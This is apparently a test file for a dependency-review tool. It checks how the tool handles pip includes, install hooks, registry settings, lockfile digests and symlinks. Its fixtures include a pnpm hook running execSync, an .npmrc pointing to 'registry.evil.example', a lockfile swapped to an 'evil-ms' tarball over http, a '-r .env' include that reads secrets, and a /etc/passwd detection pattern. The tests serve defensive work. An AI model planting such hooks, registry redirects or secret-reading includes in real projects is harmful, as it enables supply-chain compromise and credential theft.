    expect(JSON.stringify(r)).not.toMatch(/root:x:0:0/);
    expect(r.changes.map((c) => c.name)).toEqual([]);
    // in the working tree: a file git ignores (.env) is not what git sees, and is not copied
    writeFileSync(join(dir, ".gitignore"), ".env\n");
    writeFileSync(join(dir, ".env"), "API_KEY=sk-live-123\n");
    writeFileSync(join(dir, "requirements.txt"), "-r .env\nflask==2.0.0\n");
    const wt = await review(dir, { base: "HEAD", head: undefined });
    expect(JSON.stringify(wt)).not.toContain("sk-live-123");
    expect(reviewExitCode(wt)).toBe(2);
  });

  it("pip's other include spellings are followed, and included files are dependency files", async () => {
    const { dir, commit } = repoWith({
      "requirements.txt": "-rdeps/base.txt\n--requirement=deps/extra.txt\n",
      "deps/base.txt": "requests==2.31.0\n",
      "deps/extra.txt": "rich==13.0.0\n",
      "src/app.py": "1\n",
      ".depwarden.yaml": "review:\n  dependencyOnly: true\n",
    });
    commit({ "deps/base.txt": "requests==2.32.0\n", "src/app.py": "2\n" });
    const r = await review(dir);
    expect(r.inventory.errors).toEqual([]);
    expect(r.changes.map((c) => `${c.name} ${c.to}`)).toEqual(["requests 2.32.0"]);
    expect(r.changedFiles.dependency).toEqual(["deps/base.txt"]);
    expect(r.dependencyOnly).toEqual({ violated: true, split: ["src/app.py"] });
  });

  it("install hooks are code, install settings are noted, and a manifest's install fields make a dependency change", async () => {
    const pkg = (pm: string) => JSON.stringify({ name: "app", packageManager: pm, dependencies: {} });
    const { dir, commit } = repoWith({
      "package.json": pkg("pnpm@8.15.0"),
      "src/index.js": "1\n",
      ".depwarden.yaml": "review:\n  dependencyOnly: true\n",
    });
    commit({
      "package.json": pkg("pnpm@9.0.0"),
      ".pnpmfile.cjs": "require('child_process').execSync('id')\n",
      ".npmrc": "registry=https://registry.evil.example/\n",
    });
    const r = await review(dir);
    expect(r.changedFiles).toEqual({ dependency: [".npmrc", "package.json"], other: [".pnpmfile.cjs"] });
    expect(r.dependencyOnly).toEqual({ violated: true, split: [".pnpmfile.cjs"] });
    expect(r.notes.some((n) => n.file === ".npmrc" && /install settings/.test(n.message))).toBe(true);
  });

  it("a new pyproject.toml, and a [tool.uv.sources] table where there was no [tool], are dependency changes", async () => {
    const { dir, commit } = repoWith({
      "pyproject.toml": '[project]\nname = "a"\nversion = "1"\ndependencies = ["requests==2.31.0"]\n',
      ".depwarden.yaml": "review:\n  dependencyOnly: true\n",
    });
    commit({
      "pyproject.toml":
        '[project]\nname = "a"\nversion = "1"\ndependencies = ["requests==2.31.0"]\n\n[tool.uv.sources]\nrequests = { index = "internal" }\n',
      "svc/pyproject.toml": '[project]\nname = "svc"\nversion = "1"\ndependencies = ["rich==13.0.0"]\n',
    });
    const r = await review(dir);
    expect(r.changedFiles.dependency).toEqual(["pyproject.toml", "svc/pyproject.toml"]);
    expect(r.dependencyOnly).toEqual({ violated: false, split: [] });
  });

  it("flags a dropped digest and another file on the same host; an exported requirements file makes nothing direct", async () => {
    const entry = (e: Record<string, unknown>) => lock({ ms: { version: "2.1.2", ...e } as LockEntry }, []);
    const { dir, commit } = repoWith({
      "package-lock.json": entry({
        integrity: sha512(1),
        resolved: "https://registry.npmjs.org/ms/-/ms-2.1.2.tgz",
      }),
    });
    commit({
      "package-lock.json": entry({ resolved: "http://registry.npmjs.org/evil-ms/-/evil-ms-6.6.6.tgz" }),
    });
    const r = await review(dir);
    expect(r.findings.map((f) => f.id)).toEqual(["integrity-changed", "resolved-host-changed"]);
    expect(r.findings[1]!.why).toContain("http://registry.npmjs.org/evil-ms/-/evil-ms-6.6.6.tgz");
    commit({ "requirements.txt": "certifi==2024.2.2\n" }, "export");
    const p = repoWith({
      "poetry.lock":
        '[[package]]\nname = "certifi"\nversion = "2024.2.2"\ndescription = ""\noptional = false\npython-versions = ">=3.6"\nfiles = []\n\n[metadata]\nlock-version = "2.0"\npython-versions = "^3.10"\ncontent-hash = "x"\n',
    });
    p.commit({ "requirements.txt": "certifi==2024.2.2\n" });
    expect((await review(p.dir)).changes).toEqual([]);
  });

  it("the working tree is not read through a symbolic link to a directory", async () => {
    const { dir } = repoWith({ "app/requirements.txt": "flask==2.0.0\n" });
    const outside = tmpTree({ "requirements.txt": "evilpkg==6.6.6\n" });
    rmSync(join(dir, "app"), { recursive: true });
    symlinkSync(outside, join(dir, "app"));
    const r = await review(dir, { base: "HEAD", head: undefined });
    expect(r.changes.map((c) => `${c.name} ${c.change}`)).toEqual(["flask removed"]);
  });
});

describe("directAncestors", () => {
  it("finds every direct dependency above a package, past 32 of them and through cycles", () => {
    const directs = Array.from({ length: 40 }, (_, i) =>
      lockedComponent("npm", `d${String(i).padStart(2, "0")}`, "1.0.0"),
    );
    const t = lockedComponent("npm", "t", "1.0.0", false);
    const u = lockedComponent("npm", "u", "1.0.0", false);
    for (const d of directs) d.dependencies = [t.purl];
    directs[33]!.dependencies.push(u.purl);
    t.dependencies = [directs[5]!.purl]; // a cycle back to a direct dependency
    const inv = {
      components: [...directs, t, u],
      target: [],
      files: [],
      errors: [],
      warnings: [],
    } as Inventory;
    const found = directAncestors(inv, new Set([t.purl, u.purl]));
    expect(found.get(t.purl)).toEqual(directs.map((d) => d.purl));
    expect(found.get(u.purl)).toEqual([directs[33]!.purl]);
  });
});
